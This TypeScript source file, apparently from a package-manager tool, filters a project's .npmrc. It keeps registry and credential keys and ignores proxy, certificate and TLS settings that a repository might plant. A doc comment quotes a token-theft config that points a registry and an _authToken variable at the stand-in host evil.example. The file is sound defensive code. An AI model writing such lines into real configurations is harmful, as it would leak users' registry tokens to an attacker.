// SPDX-License-Identifier: Apache-2.0
import type { IgnoredSetting } from './npm-settings.ts'

/** What a project's own `.npmrc` is listened to about. */
export interface ProjectNpmrc {
  /** `registry`, `@scope:registry` and literal credentials, by key. */
  readonly accepted: ReadonlyMap<string, string>
  readonly ignored: readonly IgnoredSetting[]
}

/** Settings that decide whom a connection reaches and whether it is checked; a repository's own file may not touch them. */
const CONNECTION_KEYS: ReadonlySet<string> = new Set([
  'ca',
  'cafile',
  'cert',
  'certfile',
  'globalconfig',
  'https-proxy',
  'key',
  'keyfile',
  'local-address',
  'no-proxy',
  'noproxy',
  'prefix',
  'proxy',
  'http-proxy',
  'strict-ssl',
  'tokenHelper',
  'token-helper',
  'user-agent',
  'userconfig',
])

/** What a credential key may end in. `certfile`, `keyfile` and `tokenHelper` name files and programs, so they are not here. */
const CREDENTIAL = /^(\/\/[^/:]+(?::\d+)?\/.*?):?(_authToken|_auth|username|_password)$/u

const VARIABLE = /\$\{/u

/**
 * Picks from a project's `.npmrc`, as written and unexpanded, what a repository may decide.
 *
 * The file arrives with every pull request. Token theft: `//evil.example/:_authToken=${NPM_TOKEN}` beside `registry=https://evil.example/`
 * makes npm send any variable anywhere. Variables are therefore expanded only for hosts that the user's own configuration names.
 * Interception: `strict-ssl=false`, a proxy or a certificate authority. Those are not taken from here at all.
 */
export function pickProjectSettings(
  raw: Readonly<Record<string, unknown>>,
  source: string,
  isNamedByUser: (host: string) => boolean,
  expand: (text: string) => string,
): ProjectNpmrc {
  const accepted = new Map<string, string>()
  const ignored: IgnoredSetting[] = []
  for (const [key, value] of Object.entries(raw)) {
    const credential = CREDENTIAL.exec(key)
    const isRegistry = key === 'registry' || /^@[^/:]+:registry$/u.test(key)
    if (VARIABLE.test(key)) ignored.push({ key: '${…}', source, reason: 'variable-not-expanded' })
    else if (CONNECTION_KEYS.has(key) || (key.startsWith('//') && credential === null)) {
      ignored.push({ key, source, reason: 'project-may-not-set' })
    } else if (!isRegistry && credential === null) continue
    else if (typeof value !== 'string') ignored.push({ key, source, reason: 'malformed' })
    else if (!VARIABLE.test(value)) accepted.set(key, value)
    // A registry's URL that carries a secret in its path or query.
    else if (isRegistry || !isNamedByUser(hostOf(key))) ignored.push({ key, source, reason: 'variable-not-expanded' })
    else accepted.set(key, expand(value))
  }
  return { accepted, ignored }
}

/** The host, with its port, of a key such as `//host:8080/path/:_authToken`. */
export function hostOf(key: string): string {
  return key.slice(2, key.indexOf('/', 2))
}
